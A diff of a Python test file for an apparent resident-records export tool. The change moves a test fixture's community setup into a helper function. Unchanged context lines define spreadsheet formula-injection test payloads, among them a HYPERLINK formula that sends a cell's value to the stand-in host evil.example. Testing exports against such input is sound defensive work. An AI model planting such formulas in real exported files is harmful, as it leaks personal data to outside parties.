@@ -24,7 +24,7 @@ from exchange.db.engine import unit_of_work
 from exchange.db.models import Resident
 from exchange.exports import FORMULA_LEADS, csv_text, safe_cell, write_csv, write_xlsx
 from exchange.ledger.idnumber import make_national_id
-from exchange.ledger.importer import ensure_communities, import_ledger
+from exchange.ledger.importer import import_ledger
 from exchange.ledger.reader import open_source
 from exchange.ledger.report import ImportReport
 from exchange.ledger.synthetic import HEADER, write_ledger
@@ -32,7 +32,7 @@ from exchange.ledger.validate import RowError
 from keys.keyring import Keyring
 from keys.providers import MemoryKeyProvider
 from keys.rotation import RemapRow
-from tests.exchange.ledger.helpers import TODAY, person, to_csv
+from tests.exchange.ledger.helpers import TODAY, person, to_csv, with_communities
 
 ROOT = Path(__file__).resolve().parents[2]
 PAYLOADS = ('=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', "@SUM(A1:A9)",
@@ -44,9 +44,7 @@ TEXT_COLUMNS = ("姓名", "社区", "小区", "楼栋", "单元", "户", "孕产
 
 @pytest.fixture
 def factory(session_factory: sessionmaker[Session]) -> sessionmaker[Session]:
-    with unit_of_work(session_factory) as s:
-        ensure_communities(s)
-    return session_factory
+    return with_communities(session_factory)
 
 
 def _import(factory: sessionmaker[Session], path: Path) -> ImportReport:
